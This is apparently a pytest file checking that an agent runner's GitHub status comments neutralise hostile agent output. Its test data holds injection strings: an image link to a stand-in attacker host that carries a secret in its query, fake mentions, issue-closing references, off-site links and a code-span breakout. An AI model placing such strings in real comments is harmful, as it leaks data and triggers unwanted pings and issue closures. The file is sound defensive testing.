"""Status comments as GitHub renders them: nothing the agent wrote may act there."""

from __future__ import annotations

import pytest

from runner import status
from tests.github_rendering import findings, render

TASK_ID = "0123456789abcdef0123456789abcdef"
HOSTILE_ANSWER = (
    "Done. cc _@octocat_, **Fixes** #1, fixes <b></b>#2\n"
    "![x](https://evil.example/leak.png?d=secret) <img src=https://evil.example/a.png>\n"
    "[docs](https://evil.example) www.evil.example &#64;hubot"
)


@pytest.mark.parametrize(
    "body",
    [
        pytest.param(lambda: status.no_changes(TASK_ID, HOSTILE_ANSWER, seconds=3, tokens=10),
                     id="no-changes"),
        pytest.param(lambda: status.failed(TASK_ID, HOSTILE_ANSWER), id="failed"),
        pytest.param(lambda: status.running(TASK_ID, 3, "x` @octocat ![x](https://evil.example/a.png) `"),
                     id="running-with-a-tool-name-that-ends-its-code-span"),
    ],
)
def test_agent_text_in_a_status_comment_renders_inert(body):
    assert findings(render(body())) == []


def test_the_hostile_answer_would_act_unless_neutralised():
    # Guards the test above: quoted as it is, the answer pings, closes, loads and links.
    quoted = "\n".join("> " + line for line in HOSTILE_ANSWER.splitlines())
    kinds = " ".join(findings(render(quoted)))
    assert all(kind in kinds for kind in ("mention", "closing reference", "<img>", "leaves github.com"))


@pytest.mark.parametrize(
    ("host", "kept", "broken"),
    [
        pytest.param("github.com", "https://github.com/o/r/pull/1", "https://ghe.example.com/x",
                     id="github-com"),
        pytest.param("ghe.example.com", "https://ghe.example.com/x", "https://github.com/o/r/pull/1",
                     id="enterprise-server"),
    ],
)
def test_status_comments_keep_links_to_the_repositorys_own_host_only(host, kept, broken):
    answer = f"See {kept} and {broken}"
    for body in (status.no_changes(TASK_ID, answer, seconds=1, tokens=1, github_host=host),
                 status.failed(TASK_ID, answer, github_host=host)):
        assert kept in body and broken not in body
        assert findings(render(body), github_host=host) == []


@pytest.mark.parametrize(
    ("tool", "shown"),
    [
        pytest.param("bash", "last tool `bash`", id="known-name"),
        pytest.param("edit_file", "last tool `edit_file`", id="underscore"),
        pytest.param("a`b", "last tool `unknown`", id="backtick-would-end-the-code-span"),
        pytest.param("", "last tool `unknown`", id="empty"),
        pytest.param("x" * 65, "last tool `unknown`", id="longer-than-the-api-allows"),
    ],
)
def test_running_shows_only_tool_names_the_api_could_accept(tool, shown):
    assert shown in status.running(TASK_ID, 2, tool)
